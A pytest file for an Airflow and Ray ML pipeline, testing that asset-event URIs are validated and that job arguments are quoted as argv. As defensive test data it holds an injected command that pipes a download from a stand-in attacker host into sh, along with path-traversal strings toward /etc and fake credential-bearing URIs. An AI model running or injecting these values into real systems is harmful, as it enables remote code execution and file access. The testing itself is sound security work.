"""An Asset event's extra (anyone with the REST API can post one) never runs a command on a
cluster: its URIs are checked where the event is read, before any cluster exists (under the
artifact root, no credentials, the artifact exists), and the reference DAGs pass runtime values
to Ray as argv words, quoted, never as shell text."""

from __future__ import annotations

import shlex
import types
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from ephemeral import assets
from ephemeral.errors import JobRefused
from ephemeral.jobs import artifacts
from ephemeral.jobs.runtime_env import command_line
from tests.conftest import dag_file_module
from tests.unit.test_scaling import _handle

EVIL = "/tmp/feats; curl -s http://attacker.example/x | sh; #"


def event(features: str, validation: str, at: datetime | None = None) -> Any:
    return types.SimpleNamespace(extra={"features_uri": features, "validation_uri": validation},
                                 timestamp=at or datetime.now(UTC), source_dag_id=None,
                                 source_run_id=None)


def published() -> tuple[str, str]:
    """Features where the ETL writes them: under the artifact root, existing."""
    base = artifacts.deployment_uri("feature_etl", "run", "features")
    for split in ("train", "validation"):
        folder = Path(artifacts.join(base, split).removeprefix("file://"))
        folder.mkdir(parents=True)
        (folder / "part-0.parquet").write_bytes(b"x")
    return artifacts.join(base, "train"), artifacts.join(base, "validation")


def test_a_published_event_is_taken() -> None:
    train, validation = published()
    chosen = assets.newest_training_event({assets.FEATURES: [event(train, validation)]})
    assert chosen is not None
    assert chosen["artifact_uri"] == train


@pytest.mark.parametrize(("bad", "rule"), [
    (EVIL, "not under the artifact root"),
    ("file:///nonexistent/other-deployment/features/train", "not under the artifact root"),
    ("https://acct.blob.core.windows.net/c/feats/train?sv=2024&sig=SECRETSIG", "credentials"),
    ("s3://AKIA:secret@bucket/feats/train", "credentials"),
])
def test_an_event_uri_outside_the_root_or_with_credentials_is_refused(bad: str,
                                                                      rule: str) -> None:
    train, validation = published()
    with pytest.raises(assets.AssetEventError) as err:
        assets.newest_training_event({assets.DRIFT: [event(bad, validation)],
                                      assets.FEATURES: [event(train, validation,
                                                              datetime(2020, 1, 1, tzinfo=UTC))]})
    message = str(err.value)
    assert "feature_drift event" in message
    assert "features_uri" in message
    assert rule in message
    assert "SECRETSIG" not in message
    assert ":secret@" not in message


def test_an_event_uri_that_climbs_out_or_names_nothing_is_refused() -> None:
    train, validation = published()
    for bad, rule in [(f"{train}/../../../../../etc", "not under the artifact root"),
                      # as the readers decode it: pyarrow reads %2e%2e as ..
                      (f"{train}/%2e%2e/%2E%2E/%2e%2e/%2e%2e/%2e%2e/etc",
                       "not under the artifact root"),
                      (f"{train}%2f..%2f..%2f..", "not under the artifact root"),
                      (f"{train}-gone", "does not exist"),
                      (f"{train}; sh #", "cannot be read|does not exist")]:
        with pytest.raises(assets.AssetEventError, match=rule):
            assets.newest_training_event(
                {assets.FEATURES: [event(train, validation),
                                   event(bad, validation, datetime.now(UTC) + timedelta(1))]})


def test_an_argv_entrypoint_is_quoted_word_by_word() -> None:
    line = command_line(["python", "train_ddp.py", "--data-uri", EVIL, "--steps", 10])
    assert shlex.split(line) == ["python", "train_ddp.py", "--data-uri", EVIL, "--steps", "10"]
    assert command_line("python a.py --x 1") == "python a.py --x 1"  # a written command: as is
    for bad in ([], ["python", None], ["python", True], ["python", {"a": 1}]):
        with pytest.raises(JobRefused, match="entrypoint"):
            command_line(bad)


def _render(dag: Any, template: Any, ti: Any) -> str:
    env = dag.get_template_env()
    words = [env.from_string(w).render(ti=ti, dag=dag, run_id="manual__2026-01-01T00:00:00",
                                       params={"steps": 300}) for w in template]
    return command_line(words)


def test_the_reference_dag_passes_event_uris_as_one_word_each() -> None:
    """Were an event's URI to get past the check (or an XCom value be hostile), it is still one
    argument of the job, not a command: every Ray entrypoint of train_distributed is argv."""
    td = dag_file_module("train_distributed", "injection_train_distributed")
    handle = _handle(("w", 2, 1, 0)).model_dump(mode="json")
    chosen = {"artifact_uri": EVIL, "validation_uri": EVIL, "asset": "feature_drift"}
    best = {"result": {"artifact_uri": EVIL, "loss": 0.1}, "job_id": "j"}

    def xcom_pull(task_ids: Any = None, key: Any = None, **_: Any) -> Any:
        return {"etl.build_features": None, "choose_features": chosen,
                "train.create_ray": handle, "train.trial": [best]}.get(task_ids)

    ti = types.SimpleNamespace(xcom_pull=xcom_pull)
    trial = td.dag.get_task("train.trial")
    for template in trial.expand_input.value["entrypoint"]:
        words = shlex.split(_render(td.dag, template, ti))
        assert words[words.index("--data-uri") + 1] == EVIL
        assert words[words.index("--num-workers") + 1] == "2"
    for task_id in ("train.evaluate", "train.serve_latency"):
        template = td.dag.get_task(task_id).entrypoint
        assert isinstance(template, list), task_id
        words = shlex.split(_render(td.dag, template, ti))
        assert words[words.index("--data-uri") + 1] == EVIL


def test_drift_checks_batch_uri_param_is_judged_like_an_event(
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The form's batch_uri becomes the DRIFT event's features_uri: a signed URL (or one outside
    the artifact root) fails the check before it is read, logged or pushed, secret masked."""
    from airflow.sdk.exceptions import AirflowFailException

    from ephemeral import registry

    dc = dag_file_module("drift_check", "injection_drift_check")
    monkeypatch.setattr(registry, "champion_tags", lambda name: {})
    model = types.SimpleNamespace(extra={"features_uri": "file:///ref"},
                                  timestamp=datetime.now(UTC))
    measure = dc.dag.get_task("measure").python_callable
    for bad, rule in [("https://acct.blob.core.windows.net/c/b?sv=1&sig=SECRETSIG", "credentials"),
                      ("file:///elsewhere/batch", "not under the artifact root")]:
        with pytest.raises(AirflowFailException, match=f"batch_uri: .*{rule}") as err:
            measure(params={"batch_uri": bad, "config": None},
                    inlet_events={assets.MODEL: [model], assets.DRIFT: []},
                    dag_run=types.SimpleNamespace(run_id="r"))
        assert "SECRETSIG" not in str(err.value)


def test_lineage_reads_an_argv_entrypoint() -> None:
    """A deferred task resumes in a fresh operator whose entrypoint is the rendered list."""
    from ephemeral.airflow.operators import RayJobOperator

    op = RayJobOperator(task_id="t", cluster={}, entrypoint=["python", "evaluate.py",
                                                             "--data-uri", "file:///a b/v"])
    assert op.lineage_arguments() == ["python", "evaluate.py", "--data-uri", "file:///a b/v"]


def test_choose_features_fails_a_bad_event_without_retry() -> None:
    from airflow.sdk.exceptions import AirflowFailException

    td = dag_file_module("train_distributed", "choose_train_distributed")
    train, validation = published()
    pushed: list[Any] = []
    ti = types.SimpleNamespace(xcom_push=lambda key, value: pushed.append(value))
    choose = td.dag.get_task("choose_features").python_callable
    with pytest.raises(AirflowFailException, match=r"feature_drift event .*not under the "
                                                   r"artifact root"):
        choose(triggering_asset_events={assets.DRIFT: [event(EVIL, validation)]}, ti=ti)
    assert pushed == []
    assert choose(triggering_asset_events={assets.FEATURES: [event(train, validation)]},
                  ti=ti) == ["train.create_ray"]
    assert pushed[0]["artifact_uri"] == train
